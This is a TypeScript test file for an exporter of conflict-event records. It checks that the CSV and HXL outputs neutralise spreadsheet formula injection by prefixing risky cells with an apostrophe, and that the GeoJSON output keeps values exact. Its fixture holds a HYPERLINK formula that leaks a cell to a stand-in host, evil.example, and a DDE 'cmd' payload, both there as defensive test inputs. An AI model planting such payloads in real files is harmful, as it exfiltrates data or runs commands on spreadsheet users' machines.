import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import Papa from 'papaparse';
import type { ConflictEvent } from '../domain/conflict-event.ts';
import { EventExporter, type ExportFormat, type Release } from './event-export.ts';

const EVENT: ConflictEvent = {
  source: 'acled',
  sourceEventId: 'TST1',
  dateStart: '2024-03-01',
  dateEnd: '2024-03-01',
  datePrecision: 'day',
  country: 'Testland',
  admin1: '@North',
  admin2: '-South',
  location: '+Lakeside',
  latitude: -4.25,
  longitude: -12.5,
  geoPrecision: 1,
  violenceType: 'violence-against-civilians',
  eventType: 'Violence against civilians',
  subEventType: 'Attack',
  actor1: '\tRebels',
  actor1Category: 'rebel-group',
  actor2: '\rCivilians',
  actor2Category: null,
  civilianTargeting: true,
  civilianTargetingDerived: false,
  fatalities: 3,
  fatalitiesLow: null,
  fatalitiesHigh: null,
  civilianFatalities: null,
  targets: [],
  notes: '=HYPERLINK("http://evil.example/?leak="&A1,"click")\nsecond line',
  sourceText: "+cmd|' /C calc'!A0",
};

function exported(format: ExportFormat, events: ConflictEvent[] = [EVENT], release?: Release[]): string {
  let out = '';
  const exporter = new EventExporter(format, (s) => {
    out += s;
  });
  exporter.start();
  exporter.add(events, release);
  exporter.end();
  return out;
}

/** The data row of a CSV or HXL export, as a spreadsheet would split it into cells. */
function cells(text: string, format: 'csv' | 'hxl', row = 0): Record<string, string> {
  const rows = Papa.parse<string[]>(text.trim(), { skipEmptyLines: true }).data;
  const header = rows[0]!;
  const data = rows[(format === 'hxl' ? 2 : 1) + row]!;
  return Object.fromEntries(header.map((h, i) => [h, data[i]!]));
}

describe('12.5: exports do not hand spreadsheets live formulas', () => {
  for (const format of ['csv', 'hxl'] as const) {
    test(`${format}: text cells starting with = + - @ tab or CR get a leading apostrophe, quoted`, () => {
      const text = exported(format);
      const row = cells(text, format);
      assert.equal(row.notes, `'${EVENT.notes}`);
      assert.equal(row.source_text, `'${EVENT.sourceText}`);
      assert.equal(row.admin1, "'@North");
      assert.equal(row.admin2, "'-South");
      assert.equal(row.location, "'+Lakeside");
      assert.equal(row.actor1, "'\tRebels");
      assert.equal(row.actor2, "'\rCivilians");
      // Quoted in the file, so no reader sees the apostrophe as the end of a bare cell.
      assert.match(text, /,"'=HYPERLINK\(/);
      assert.match(text, /,"'@North",/);
      for (const [column, value] of Object.entries(row)) {
        if (column !== 'latitude' && column !== 'longitude')
          assert.doesNotMatch(value, /^[=+\-@\t\r]/, column);
      }
    });

    test(`${format}: numbers, negative ones included, stay numbers`, () => {
      const text = exported(format);
      const row = cells(text, format);
      assert.equal(row.latitude, '-4.25');
      assert.equal(row.longitude, '-12.5');
      assert.equal(row.fatalities, '3');
      assert.match(text, /,-4\.25,-12\.5,/);
    });

    test(`${format}: ordinary text is written as it was`, () => {
      const plain = { ...EVENT, notes: 'A quiet note, with a comma', admin1: 'North', sourceText: 'Radio' };
      const row = cells(exported(format, [plain]), format);
      assert.equal(row.notes, 'A quiet note, with a comma');
      assert.equal(row.admin1, 'North');
      assert.equal(row.source_text, 'Radio');
    });

    test(`${format}: a cell starting with a line feed gets the apostrophe too`, () => {
      const row = cells(exported(format, [{ ...EVENT, notes: '\n=1+1' }]), format);
      assert.equal(row.notes, "'\n=1+1");
    });

    test(`${format}: a cell already starting with an apostrophe before = gets one more, so one can be taken off`, () => {
      const row = cells(exported(format, [{ ...EVENT, notes: "'=1+1", sourceText: "it's =" }]), format);
      assert.equal(row.notes, "''=1+1");
      assert.equal(row.source_text, "it's =");
    });
  }

  test('geojson keeps every value exact', () => {
    const collection = JSON.parse(exported('geojson'));
    const properties = collection.features[0].properties;
    assert.equal(properties.notes, EVENT.notes);
    assert.equal(properties.source_text, EVENT.sourceText);
    assert.equal(properties.admin1, '@North');
    assert.deepEqual(collection.features[0].geometry.coordinates, [-12.5, -4.25]);
  });
});

describe('the HXL export carries every field, for Tandem to read back (test/hxl-round-trip.test.ts)', () => {
  test('hxl: the hashtag row keeps its columns and adds those every event field needs, and how each was released', () => {
    const text = exported('hxl', [EVENT, { ...EVENT, sourceEventId: 'TST2' }], ['whole', 'blurred']);
    const [header, tags] = text.split('\r\n');
    assert.match(
      tags!,
      /^#meta\+dataset,#event\+id,#date\+start,#date\+end,#date\+precision,#country\+name,.*,#description,#meta\+source,/,
    );
    assert.ok(
      tags!.endsWith(
        ',#geo+precision,#affected+killed+low,#affected+killed+high,#group+name+targets,#group+name+first+associated,#group+name+second+associated,#meta+release',
      ),
    );
    assert.equal(header!.split(',').length, tags!.split(',').length);
    const row = cells(text, 'hxl');
    assert.equal(row.geo_precision, '1');
    assert.equal(row.fatalities_low, '');
    assert.equal(row.release, 'whole');
    assert.equal(cells(text, 'hxl', 1).release, 'blurred');
    const targeted = cells(
      exported('hxl', [{ ...EVENT, targets: ['Women (Testland)', 'Children (Testland)'] }]),
      'hxl',
    );
    assert.equal(targeted.targets, 'Women (Testland); Children (Testland)');
  });
});
